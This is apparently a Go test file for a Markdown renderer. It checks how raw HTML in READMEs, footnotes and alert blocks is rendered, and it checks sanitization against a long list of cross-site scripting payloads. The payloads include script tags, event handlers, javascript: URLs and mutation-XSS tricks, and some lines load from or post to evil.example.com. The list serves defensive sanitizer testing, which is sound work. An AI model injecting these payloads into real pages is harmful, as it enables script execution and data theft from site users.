package page

import (
	"regexp"
	"strings"
	"testing"
)

// layoutOf returns a document in the directory dir of the tree /r as a page shows it.
func layoutOf(text string) string {
	return strings.TrimSpace(string(markdown([]byte(text), "/r", "dir").HTML))
}

// TestRawHTML lays out what READMEs have.
func TestRawHTML(t *testing.T) {
	for text, want := range map[string]string{
		"<p align=\"center\">\n  <img src=\"logo.png\" alt=\"Logo\" width=\"120\">\n</p>\n\nText": "<p align=\"center\">\n  <img src=\"/r/dir/logo.png\" alt=\"Logo\" width=\"120\"/>\n</p>\n\n<p>Text</p>",
		"<h1 align=center>Name</h1>":                                                                 `<h2 align="center">Name</h2>`,
		"a<br>b <b>c</b> <sup>d</sup> <kbd>Ctrl</kbd>":                                               "<p>a<br/>b <b>c</b> <sup>d</sup> <kbd>Ctrl</kbd></p>",
		"<details>\n<summary>More</summary>\n\n*hidden*\n\n</details>":                               "<details>\n<summary>More</summary>\n\n<p><em>hidden</em></p>\n</details>",
		`<a href="main.go#L3">x</a>`:                                                                 `<p><a href="/r/dir/main.go?view#L3">x</a></p>`,
		`<a href="https://ci.example.com"><img src="https://img.example.com/b.svg" alt="build"></a>`: `<p><a href="https://ci.example.com">build</a></p>`,
		`[![build](https://img.example.com/b.svg)](https://ci.example.com)`:                          `<p><a href="https://ci.example.com">build</a></p>`,
		`<img src="https://img.example.com/b.svg" alt="build">`:                                      `<a href="https://img.example.com/b.svg">build</a>`,
		"<img src=a.png>\ntext *of the block*":                                                       "<img src=\"/r/dir/a.png\" alt=\"\"/>\ntext *of the block*",
		"<picture><source srcset=\"dark.svg\"><img src=\"light.svg\" alt=\"x\"></picture>":           `<p><img src="/r/dir/light.svg" alt="x"/></p>`,
		"<!-- a comment -->\n\nText":                                                                 "<p>Text</p>",
		"<script>alert(1)</script>\n\nText":                                                          "<p>Text</p>",
		"A &amp; B <i>&lt;evil&gt;</i>":                                                              "<p>A &amp; B <i>&lt;evil&gt;</i></p>",
	} {
		if got := layoutOf(text); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", text, got, want)
		}
	}
}

// TestMarkdownForms wants footnotes, alerts, and headings below that of the page.
func TestMarkdownForms(t *testing.T) {
	text := layoutOf("# Title\n\nA claim[^1].\n\n[^1]: The source.\n\n###### Deep\n")
	for _, want := range []string{`<h2 id="h-title">Title</h2>`, `<h6 id="h-deep">`, `href="#h-fn:1"`, `id="h-fn:1"`, "The source."} {
		if !strings.Contains(text, want) {
			t.Errorf("no %s in %s", want, text)
		}
	}
	if strings.Contains(text, "<h1") {
		t.Error("a second h1")
	}
	for text, want := range map[string]string{
		"> [!NOTE]\n> Read *this*.":          "<blockquote class=\"alert note\"><p class=\"title\">Note</p>\n<p>Read <em>this</em>.</p>\n</blockquote>",
		"> [!warning]\n>\n> Two\n>\n> Three": "<blockquote class=\"alert warning\"><p class=\"title\">Warning</p>\n<p>Two</p>\n<p>Three</p>\n</blockquote>",
		"> [!EVIL]\n> x":                     "<blockquote>\n<p>[!EVIL]\nx</p>\n</blockquote>",
		"> [!NOTE] x":                        "<blockquote>\n<p>[!NOTE] x</p>\n</blockquote>",
	} {
		if got := layoutOf(text); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", text, got, want)
		}
	}
	doc := markdown([]byte("# A *b* `c` &amp; d\n\n## E\n"), "/r", "")
	if len(doc.Sections) != 2 || doc.Sections[0] != (section{ID: "h-a-b-c-amp-d", Text: "A b c & d", Level: 1}) || doc.Sections[1].Level != 2 {
		t.Errorf("%+v", doc.Sections)
	}
}

// hostileHTML are pieces that have run scripts through the filters of others: cheat sheets, and
// advisories on sanitizers.
var hostileHTML = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example.com/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`, `<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)" alt="">`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img src=x:alert(1) onerror=eval(src)>`,
	`<img src=javascript:alert(1)>`, `<img src=JaVaScRiPt:alert(1)>`, "<img src=\"jav\tascript:alert(1)\">", "<img src=\"jav&#x09;ascript:alert(1)\">", `<img src="&#106;&#97;vascript:alert(1)">`,
	`<img src=data:image/svg+xml;base64,PHN2Zy8+>`, `<img src="//evil.example.com/x.png">`, `<img src='a" onload="alert(1)'>`, "<img src=`a` onerror=`alert(1)`>", `<img/src="x"/onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="javascript&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`, `<a href="\\evil.example.com">x</a>`, `<a href="/\evil.example.com">x</a>`, `<a href="x" style="position:fixed;inset:0">x</a>`, `<a href=x target=_blank ping=//evil.example.com>x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<title><a title="</title><img src=x onerror=alert(1)>">`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=x.swf>`, `<embed src=x>`, `<base href="//evil.example.com/">`, `<link rel=stylesheet href=x>`,
	`<meta http-equiv=refresh content="0;url=//evil.example.com">`, `<style>@import "//evil.example.com";</style>`, `<style>*{display:none}`, `<p style="background:url(javascript:alert(1))">x</p>`,
	`<div class="over" id="toasts" tabindex="1" contenteditable draggable=true>x</div>`, `<form action="//evil.example.com"><input name=q><button>x</button></form>`, `<button onclick=alert(1)>x</button>`,
	`<body onload=alert(1)>`, `<html onclick=alert(1)>`, `<details open ontoggle=alert(1)><summary>x</summary></details>`, `<video src=x onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<textarea><img src=x onerror=alert(1)>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`, `<template><img src=x onerror=alert(1)></template>`, `<select><script>alert(1)</script></select>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><x>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	`</main></body></html><evil>x</evil>`, `</article></section></div></div></p>`, `<p align='center" onclick="alert(1)'>x</p>`, `<p align=evil onclick=alert(1)>x</p>`, `<img src=x width="1 onerror=alert(1)">`,
	"<a href='x'\x00onclick=alert(1)>x</a>", "<p\x00onclick=alert(1)>x</p>", `<p/onclick=alert(1)>x</p>`, `<a href="x" href="javascript:alert(1)">x</a>`, `<h1 id="main">x</h1>`, `<input type=image src=x onerror=alert(1)>`,
	`<ruby oncopy=alert(1)>x</ruby>`, `<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>`, `<b/><i/><p/>`, `<li value=1 onclick=alert(1)>x`, `<dl><dt><dd><dt></dl></dd>`,
	`<a href="#x" name=body id=cookie>x</a>`, `<img name=getElementById src=x>`, `<evil>x`, `<p`, `<p align="`, `<a href="x`, `<!--`, `<`, `<>`, `</>`, `<a\nhref="javascript:alert(1)">x</a>`,
}

// TestHostileHTML puts each piece where Markdown takes raw HTML, alone and within others.
func TestHostileHTML(t *testing.T) {
	for _, evil := range hostileHTML {
		for _, frame := range []string{"%", "a % b", "\n\n%\n\n*b*\n", "- %\n  %", "<p align=center>%</p>", "<a href=x>%", "<table>%", "<details>\n\n%\n\n", "> %\n", "# %", "|%|b|\n|-|-|\n|%|d|", "[%](x)", "![%](x)", "`%`", "[^1]\n\n[^1]: %"} {
			text := strings.ReplaceAll(frame, "%", evil)
			doc := string(markdown([]byte(text), "/base/vol", "dir").HTML)
			for _, what := range violations(doc) {
				t.Errorf("%q: %s", text, what)
			}
			for _, tag := range []string{"main", "article", "section", "div", "p", "a", "details", "table", "td", "li"} {
				if opened, closed := len(regexp.MustCompile("<"+tag+`\b`).FindAllString(doc, -1)), strings.Count(doc, "</"+tag+">"); opened != closed {
					t.Errorf("%q: %d <%s>, %d </%s>: %s", text, opened, tag, closed, tag, doc)
				}
			}
		}
	}
}
